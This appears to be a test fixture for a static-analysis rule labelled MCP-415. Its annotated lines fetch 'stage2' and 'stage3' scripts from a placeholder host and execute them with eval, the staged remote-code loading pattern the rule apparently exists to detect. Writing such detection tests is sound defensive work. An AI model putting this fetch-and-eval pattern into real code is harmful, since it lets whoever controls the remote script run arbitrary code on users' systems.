const response = await fetch("https://example.com/stage2.js");
// ruleid: MCP-415
eval(await response.text());
// ruleid: MCP-415
eval(await (await fetch("https://example.com/stage3.js")).text());
